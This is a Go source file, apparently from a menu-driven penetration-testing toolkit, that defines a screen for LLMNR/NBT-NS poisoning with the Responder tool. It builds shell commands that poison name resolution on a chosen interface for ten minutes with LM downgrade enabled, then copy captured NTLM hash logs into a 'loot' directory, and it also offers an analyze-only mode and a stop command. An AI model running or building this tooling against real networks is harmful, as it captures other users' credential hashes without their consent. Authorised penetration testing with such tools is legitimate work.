package mode

import (
	"fmt"
	"time"
)

// NewResponder builds the LLMNR/NBT-NS poisoning screen.
func NewResponder(env *Env) Mode {
	iface := env.Cfg.Interfaces.Primary
	lootDir := env.Loot.Root
	return newCommandMode(env, "responder", "☿", []commandEntry{
		{Icon: "▶", Label: "Poison (10 min)", Confirm: true, Timeout: 620 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 600 responder -I %s -wv --lm 2>&1 | tee %s", iface, env.Loot.CapturePath("responder", "poison", "log"))
		}},
		{Icon: "👂", Label: "Analyze only", Timeout: 620 * time.Second, Command: func() string {
			return fmt.Sprintf("timeout 600 responder -I %s -A 2>&1 | tee %s", iface, env.Loot.CapturePath("responder", "analyze", "log"))
		}},
		{Icon: "⇣", Label: "Collect hashes", Timeout: 30 * time.Second, Command: func() string {
			return fmt.Sprintf("cp /usr/share/responder/logs/*NTLM* %s/responder/ 2>/dev/null; ls %s/responder", lootDir, lootDir)
		}},
		{Icon: "■", Label: "Stop responder", Command: func() string { return "pkill -f responder" }, Timeout: 15 * time.Second},
	})
}
